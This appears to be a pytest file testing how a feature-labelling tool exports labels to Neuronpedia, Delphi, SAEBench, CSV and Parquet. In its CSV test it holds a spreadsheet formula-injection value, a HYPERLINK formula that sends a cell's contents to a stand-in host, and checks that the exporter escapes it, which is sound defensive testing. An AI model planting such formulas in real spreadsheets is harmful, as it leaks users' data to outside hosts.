from __future__ import annotations

import csv
import gzip
import io
import json
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pyarrow.parquet
import pytest
from outcomes import HOSTILE, SUBJECT, failure, label, mixed_labels, stored_run

from tsea.labeler.exports.csv_file import unmarked
from tsea.labeler.exports.export import Destination, Export, FormatName
from tsea.labeler.exports.formats import FORMATS, exported, write_export
from tsea.tools.errors import TseaError, UsageError
from tsea.tools.storage.records import Records
from tsea.tools.storage.tables import Label, Run

CLAIMED = {str(n): [text] for n, text in enumerate(HOSTILE)} | {"300": ["after a retry"], "301": ["first", "second"]}
LEFT_OUT = [
    "Left out: 3 labels without a claim.",
    "Left out: 4 failed labels (refusal: 2, budget: 1, timeout: 1).",
]


@pytest.fixture
def records() -> Iterator[Records]:
    with Records() as opened:
        yield opened


@pytest.fixture
def run(records: Records) -> Run:
    return stored_run(records, mixed_labels())


@pytest.fixture
def labels(records: Records, run: Run) -> list[Label]:
    return records.labels(run)


@pytest.fixture
def peers(shared: Path) -> str:
    return (shared / "research" / "PEERS.md").read_text(encoding="utf-8")


def made(
    run: Run, labels: list[Label], format_name: FormatName, model: str | None = None, source: str | None = None
) -> Export:
    return exported(run, labels, format_name, Destination(model, source))


def files(export: Export) -> Mapping[str, bytes]:
    assert isinstance(export.content, Mapping)
    return export.content


def data(export: Export) -> bytes:
    assert isinstance(export.content, bytes)
    return export.content


def by_feature(rows: list[tuple[str, str]]) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for feature, text in rows:
        found.setdefault(feature, []).append(text)
    return found


def test_neuronpedia_lines_have_its_keys_and_every_claimed_text_and_no_other(
    run: Run, labels: list[Label], peers: str
) -> None:
    export = made(run, labels, "neuronpedia")
    rows = [json.loads(line) for line in data(export).decode().splitlines()]
    keys = re.search(r"Explanation: ([\w, ]+)\.", peers)
    assert keys and all(list(row) == keys[1].split(", ") for row in rows)
    assert by_feature([(row["index"], row["description"]) for row in rows]) == CLAIMED
    assert export.labels == len(rows) == len({row["id"] for row in rows}) and export.notes == LEFT_OUT
    assert rows[0]["typeName"] == "tsea_agent" and rows[0]["explanationModelName"] == "m"
    assert rows[0]["notes"] == "Claim: specific, q 0.004, confidence 0.75. Refuted by =1+1."


def test_neuronpedia_calls_a_subject_of_the_registry_as_the_dashboards_of_its_sae_do(
    records: Records, shared: Path
) -> None:
    dashboards = json.loads((shared / "formats" / "neuronpedia_saedashboard_batch.json").read_text(encoding="utf-8"))
    features = [feature["feature_index"] for feature in dashboards["features"]]
    run = stored_run(records, [label(feature) for feature in features])
    body = json.loads(files(made(run, records.labels(run), "neuronpedia-batch"))["batch-0.json"])
    assert body["modelId"] == dashboards["model_id"]
    assert body["source"] == f"{dashboards['layer']}-{dashboards['sae_set']}"
    assert [feature["index"] for feature in body["features"]] == features
    (row, *_) = data(made(run, records.labels(run), "neuronpedia")).decode().splitlines()
    assert (json.loads(row)["modelId"], json.loads(row)["layer"]) == (body["modelId"], body["source"])


@pytest.mark.parametrize("names", [(), ("gpt2-small",)])
@pytest.mark.parametrize("format_name", ["neuronpedia", "neuronpedia-batch"])
def test_names_that_neuronpedia_has_for_no_subject_are_asked_for_and_taken(
    records: Records, format_name: FormatName, names: tuple[str, ...]
) -> None:
    run = stored_run(records, [label(3)], subject="pocket")
    with pytest.raises(UsageError, match="--model gpt2-small --source 8-res-jb"):
        made(run, records.labels(run), format_name, *names)
    assert b'"mine"' in repr(made(run, records.labels(run), format_name, "mine", "0-res").content).encode()


def test_upload_bodies_hold_128_features_of_the_documented_keys_and_512_characters_of_text(
    records: Records, peers: str
) -> None:
    run = stored_run(records, mixed_labels() + [label(1000 + n) for n in range(256 - len(CLAIMED) + 1)])
    export = made(run, records.labels(run), "neuronpedia-batch")
    bodies = [json.loads(content) for content in files(export).values()]
    assert [len(body["features"]) for body in bodies] == [128, 128, 1]
    assert list(files(export)) == ["batch-0.json", "batch-1.json", "batch-2.json"]
    features = [feature for body in bodies for feature in body["features"]]
    (documented,) = [line for line in peers.splitlines() if "/api/feature/upload-batch" in line]
    assert all(f"{key}" in documented for key in (*bodies[0], *features[0], *features[0]["explanations"][0]))
    assert [f["index"] for f in features] == sorted(f["index"] for f in features)
    texts = by_feature([(str(f["index"]), e["text"]) for f in features for e in f["explanations"]])
    longest = str(HOSTILE.index("x" * 513))
    assert {f: t for f, t in texts.items() if int(f) < 1000} == CLAIMED | {longest: ["x" * 509 + "..."]}
    assert "Cut to 512 characters: 1 of 258 texts." in export.notes and set(LEFT_OUT) <= set(export.notes)


@pytest.fixture
def dashboards(shared: Path) -> Path:
    return shared / "formats" / "neuronpedia_saedashboard_batch.json"


def test_upload_bodies_take_the_other_keys_from_dashboards_of_that_dictionary(
    records: Records, dashboards: Path, peers: str
) -> None:
    run = stored_run(records, [label(n) for n in range(3)])
    export = exported(run, records.labels(run), "neuronpedia-batch", Destination(dashboards=dashboards))
    body = json.loads(files(export)["batch-0.json"])
    first, second, bare = body["features"]
    keys = re.search(r"features\[1-128\]\{(.*?)\}\]\}", peers, re.DOTALL)
    assert keys and all(key in keys[1] for key in (*first, *first["activations"][-1], *first["topLogits"][0]))
    assert list(bare) == ["index", "explanations"] and second["density"] == 0
    source = json.loads(dashboards.read_bytes())["features"][0]
    assert first["density"] == source["frac_nonzero"] == 0.0002
    assert first["topLogits"][0] == {"token": " Brigade", "value": 3.753} and len(first["topLogits"]) == 10
    assert first["bottomLogits"][0] == {"token": "sequence", "value": -0.707}
    assert [a["tokens"] for a in first["activations"]] == [a["tokens"] for a in source["activations"]]
    sampled = [a for a in first["activations"] if "quantileMax" in a]
    assert 0 < len(sampled) == sum(a["bin_min"] != -1 for a in source["activations"])
    assert all(0 <= a["quantileFraction"] <= 1 and a["quantileMin"] < a["quantileMax"] for a in sampled)
    assert [note.split(": ")[1].split(" features")[0] for note in export.notes] == ["1 of 3"]


def test_dashboards_name_a_dictionary_that_the_registry_does_not_know(
    records: Records, dashboards: Path, tmp_path: Path
) -> None:
    (tmp_path / "batch-0.json").write_bytes(dashboards.read_bytes())
    run = stored_run(records, [label(1)], subject="local:mine")
    export = exported(run, records.labels(run), "neuronpedia-batch", Destination(dashboards=tmp_path))
    body = json.loads(files(export)["batch-0.json"])
    assert (body["modelId"], body["source"]) == ("gpt2-small", "0-res-jb")
    assert not export.notes


def test_dashboards_of_another_dictionary_and_other_files_are_refused(
    records: Records, dashboards: Path, tmp_path: Path
) -> None:
    run = stored_run(records, [label(1)], subject="gpt2-small-res-jb/blocks.8.hook_resid_pre")

    def refused(path: Path, error: type[Exception] = UsageError) -> str:
        with pytest.raises(error) as caught:
            exported(run, records.labels(run), "neuronpedia-batch", Destination(dashboards=path))
        return str(caught.value)

    assert "of gpt2-small/0-res-jb and the labels of gpt2-small/8-res-jb" in refused(dashboards)
    assert "holds no .json file" in refused(tmp_path)
    assert "Cannot read" in refused(tmp_path / "nothing.json", TseaError)
    for name, content in (("a.json", "[1]"), ("b.json", "{"), ("c.json", '{"model_id": "m"}')):
        (tmp_path / name).write_text(content)
        assert "no batch file of SAEDashboard" in refused(tmp_path / name)
        (tmp_path / name).unlink()
    for layer in (0, 1):
        (tmp_path / f"{layer}.json").write_text(
            json.dumps({"model_id": "m", "layer": layer, "sae_set": "s", "features": []})
        )
    assert "dashboards of m/0-s and m/1-s" in refused(tmp_path)
    with pytest.raises(UsageError, match="no use for --dashboards"):
        exported(run, records.labels(run), "neuronpedia", Destination(dashboards=dashboards))


def test_delphi_has_a_json_string_in_a_file_for_each_claimed_feature_the_last_one(
    run: Run, labels: list[Label]
) -> None:
    export = made(run, labels, "delphi", None, "layers.8/x")
    read = {name: json.loads(content) for name, content in files(export).items()}
    assert read == {f"layers.8--x_latent{feature}.txt": texts[-1] for feature, texts in CLAIMED.items()}
    assert export.notes == [*LEFT_OUT, "Left out: 1 label of features that have a later one."]
    assert list(files(made(run, labels, "delphi")))[0] == f"{SUBJECT.replace('/', '--')}_latent0.txt"
    with pytest.raises(UsageError, match="no use for --model"):
        made(run, labels, "delphi", "gpt2")


def test_saebench_summary_keeps_every_feature_and_invents_no_score(run: Run, labels: list[Label], peers: str) -> None:
    found = json.loads(data(made(run, labels, "saebench")))
    keys = re.search(r"autointerp result: ([\w, ]+), (\w+)\.(\w+)\.\{(\w+), (\w+)\}", peers)
    assert keys and set(keys[1].split(", ")) <= found.keys()
    metrics = found[keys[2]]
    assert metrics[keys[3]] == {keys[4]: None, keys[5]: None}
    counts = {name: metrics["labels"][name] for name in ("features", "labelled", "no_claim", "failed", "specific")}
    assert counts == {"features": 22, "labelled": 17, "no_claim": 2, "failed": 3, "specific": 17}
    latents = found["eval_result_unstructured"]
    assert {f: x["explanation"] for f, x in latents.items() if x["explanation"] is not None} == {
        feature: texts[-1] for feature, texts in CLAIMED.items()
    }
    assert latents["200"]["status"] == "failed" and latents["100"]["status"] == "no_claim"
    assert (found["sae_lens_release_id"], found["sae_lens_id"]) == tuple(SUBJECT.split("/", 1))


def test_csv_gives_every_label_back_and_no_cell_is_a_formula(run: Run, labels: list[Label]) -> None:
    export = made(run, labels, "csv")
    rows = list(csv.DictReader(io.StringIO(data(export).decode(), newline="")))
    assert [row["status"] for row in rows] == [one.status for one in labels]
    assert [unmarked(row["text"]) for row in rows] == ["" if x.status == "failed" else x.text for x in labels]
    assert [unmarked(row["refute"]) for row in rows] == [one.refute for one in labels]
    assert [row["failure"] for row in rows if row["status"] == "failed"] == ["refusal", "budget", "refusal", "timeout"]
    assert not [cell for row in rows for cell in row.values() if cell[:1] in tuple("=+-@\t\r\uff1d")]
    assert rows[0]["confidence"] == "0.75" and json.loads(rows[0]["provenance"])["cost"] == 0.25
    marked = {row["text"] for row in rows if unmarked(row["text"]) != row["text"]}
    assert {'\'=HYPERLINK("http://x/?"&A1,"digits")', "''=already marked", "'''@twice"} <= marked
    assert "'s and 't" not in marked and len(marked) == 8
    assert export.notes[0] == "7 of 25 rows claim nothing or failed: see `status`."


def test_parquet_gives_every_label_back_with_types_and_the_run(run: Run, labels: list[Label]) -> None:
    table = pyarrow.parquet.read_table(io.BytesIO(data(made(run, labels, "parquet"))))
    rows: list[dict[str, Any]] = table.to_pylist()
    assert [row["text"] for row in rows] == [None if one.status == "failed" else one.text for one in labels]
    assert [(row["label"], row["feature"], row["status"]) for row in rows] == [
        (one.id, one.feature, one.status) for one in labels
    ]
    assert [row["created"] for row in rows] == [one.created for one in labels]
    assert rows[0]["q"] == 0.004 and rows[-1]["q"] is None
    assert [row["failure"] for row in rows if row["status"] == "failed"] == ["refusal", "budget", "refusal", "timeout"]
    about = json.loads((table.schema.metadata or {})[b"tsea"])
    assert about["name"] == "first" and about["config"] == run.config
    assert made(run, labels, "parquet").notes == made(run, labels, "csv").notes[:1]


@pytest.mark.parametrize("format_name", ["saebench", "csv", "parquet"])
def test_names_are_refused_by_formats_that_have_no_place_for_them(
    run: Run, labels: list[Label], format_name: FormatName
) -> None:
    with pytest.raises(UsageError, match="no use for --model"):
        made(run, labels, format_name, "gpt2-small")


@pytest.mark.parametrize("format_name", FORMATS)
def test_a_run_without_labels_has_nothing_to_export(records: Records, format_name: FormatName) -> None:
    run = stored_run(records, [])
    with pytest.raises(UsageError, match="Run first has no labels"):
        made(run, records.labels(run), format_name)


@pytest.mark.parametrize("format_name", ["neuronpedia", "neuronpedia-batch", "delphi"])
def test_a_run_without_claims_is_refused_by_formats_of_explanations_and_held_by_tables(
    records: Records, format_name: FormatName
) -> None:
    run = stored_run(records, [label(1, "no_claim"), failure(2, "refusal")])
    with pytest.raises(UsageError, match="csv or parquet") as refused:
        made(run, records.labels(run), format_name)
    assert refused.value.details == (
        "Left out: 1 label without a claim.",
        "Left out: 1 failed label (refusal: 1).",
    )
    assert made(run, records.labels(run), "csv").labels == 2


def test_a_file_is_compressed_by_its_name_and_replaced_only_when_forced(tmp_path: Path) -> None:
    export, out = Export(b"one\n", 1), tmp_path / "new" / "labels.jsonl.gz"
    write_export(export, out)
    assert gzip.decompress(out.read_bytes()) == b"one\n"
    with pytest.raises(UsageError, match="--force"):
        write_export(Export(b"two\n", 1), out)
    assert gzip.decompress(out.read_bytes()) == b"one\n"
    write_export(Export(b"two\n", 1), out, force=True)
    assert gzip.decompress(out.read_bytes()) == b"two\n"
    assert [path.name for path in out.parent.iterdir()] == ["labels.jsonl.gz"]


def test_a_folder_is_replaced_only_when_forced_and_never_with_files_of_others(tmp_path: Path) -> None:
    out = tmp_path / "bodies"
    write_export(Export({"batch-0.json": b"0", "batch-1.json": b"1"}, 2, pattern="batch-*.json"), out)
    again = Export({"batch-0.json": b"new"}, 1, pattern="batch-*.json")
    with pytest.raises(UsageError, match="--force"):
        write_export(again, out)
    write_export(again, out, force=True)
    assert {path.name: path.read_bytes() for path in out.iterdir()} == {"batch-0.json": b"new"}
    (out / "thesis.txt").write_text("mine")
    with pytest.raises(UsageError, match=r"thesis\.txt"):
        write_export(again, out, force=True)
    assert (out / "thesis.txt").read_text() == "mine" and len(list(tmp_path.iterdir())) == 1


@pytest.mark.parametrize("force", [False, True])
def test_a_folder_does_not_take_the_place_of_a_file_nor_a_file_that_of_a_folder(tmp_path: Path, force: bool) -> None:
    taken = tmp_path / "file"
    taken.write_text("mine")
    with pytest.raises(UsageError, match="this format is a folder"):
        write_export(Export({"batch-0.json": b""}, 1), taken, force=force)
    with pytest.raises(UsageError, match="this format is a file"):
        write_export(Export(b"", 1), tmp_path, force=force)
    assert taken.read_text() == "mine"
